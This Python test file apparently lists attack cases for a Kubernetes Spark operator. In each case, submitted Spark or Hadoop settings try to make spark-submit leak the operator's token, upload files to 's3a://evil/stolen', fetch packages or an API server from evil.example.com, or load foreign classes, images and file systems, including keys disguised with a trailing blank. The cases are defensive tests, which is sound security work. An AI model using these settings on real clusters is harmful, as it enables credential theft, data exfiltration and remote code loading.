"""Settings by which an application would make spark-submit act for somebody else in the Spark operator's pod."""

from __future__ import annotations

from typing import Final

from tests.cluster.application_shapes import application, connect, scheduled
from tests.cluster.attacks_applications import EVIL, TOKEN, submitting
from tests.cluster.attempts import Attempt, Case


def setting(name: str, key: str, value: str = "x") -> Attempt:
    """An application brings a setting by which spark-submit acts in the operator's pod."""
    harmless = application(sparkConf={"spark.sql.shuffle.partitions": "200"})
    return submitting(name, "application-conf", application(sparkConf={key: value}), harmless)


CASES: Final[tuple[Case, ...]] = (
    setting("a place to upload local files to", "spark.kubernetes.file.upload.path", "s3a://evil/stolen"),
    setting("the operator's token as a Kerberos configuration", "spark.kubernetes.kerberos.krb5.path", TOKEN),
    setting("the operator's token as a keytab", "spark.kerberos.keytab", TOKEN),
    setting("the operator's token as a driver's certificate", "spark.kubernetes.authenticate.driver.caCertFile", TOKEN),
    setting("another token to submit with", "spark.kubernetes.authenticate.submission.oauthTokenFile", TOKEN),
    setting("another API server", "spark.master", "k8s://https://evil.example.com"),
    setting("a file of the operator's as the executors' template", "spark.kubernetes.executor.podTemplateFile", TOKEN),
    setting("a class path for spark-submit", "spark.driver.defaultExtraClassPath", "/jars/*"),
    setting("a job's own classes in the place of spark-submit's", "spark.driver.userClassPathFirst", "true"),
    setting("a class for spark-submit to run", "spark.kubernetes.driver.pod.featureSteps", "com.example.Evil"),
    setting("another place to fetch packages from", "spark.jars.repositories", "https://evil.example.com"),
    setting("settings of the package manager", "spark.jars.ivySettings", "https://evil.example.com/ivy.xml"),
    setting("a file system of one's own", "spark.hadoop.fs.s3a.impl", "org.apache.hadoop.fs.RawLocalFileSystem"),
    setting(
        "a file system of one's own, behind a blank that Hadoop leaves out",
        "spark.hadoop.fs.s3a.impl ",
        "org.apache.hadoop.fs.RawLocalFileSystem",
    ),
    setting(
        "a file system of one's own, up to the sign that ends a setting", "spark.hadoop.fs.s3a.impl=com.example.Evil"
    ),
    setting("a file of credentials in the operator's pod", "spark.hadoop.hadoop.security.credential.provider.path"),
    setting("keys that whoever may look would see", "spark.hadoop.fs.s3a.bucket.ads.secret.key"),
    setting("a worker of the operator's for as long as the job runs", "spark.kubernetes.submission.waitAppCompletion"),
    setting("a driver in the operator's pod by a setting", "spark.submit.deployMode", "client"),
    setting("another image by a setting", "spark.kubernetes.container.image", EVIL),
    setting("another service account", "spark.kubernetes.authenticate.driver.serviceAccountName", "default"),
    setting("a name for the driver's service in DNS", "spark.kubernetes.driver.service.annotation.external-dns", "ads"),
    setting("a setting that only looks like an allowed one", "spark.sqlx.evil"),
    submitting(
        "a file system of one's own by hadoopConf",
        "application-conf",
        application(hadoopConf={"fs.s3a.impl": "org.apache.hadoop.fs.RawLocalFileSystem"}),
        application(hadoopConf={"fs.s3a.connection.maximum": "200"}),
    ),
    submitting(
        "a place to upload to for a schedule",
        "application-conf",
        scheduled(sparkConf={"spark.kubernetes.file.upload.path": "s3a://evil/stolen"}),
        scheduled(sparkConf={"spark.sql.shuffle.partitions": "200"}),
    ),
    submitting(
        "another service account for a Spark Connect server's executors",
        "application-conf",
        connect(sparkConf={"spark.kubernetes.authenticate.executor.serviceAccountName": "default"}),
        connect(),
    ),
    submitting(
        "another API server for Spark Connect",
        "application-conf",
        connect(sparkConf={"spark.master": "k8s://https://evil.example.com"}),
        connect(sparkConf={"spark.sql.shuffle.partitions": "200"}),
    ),
)
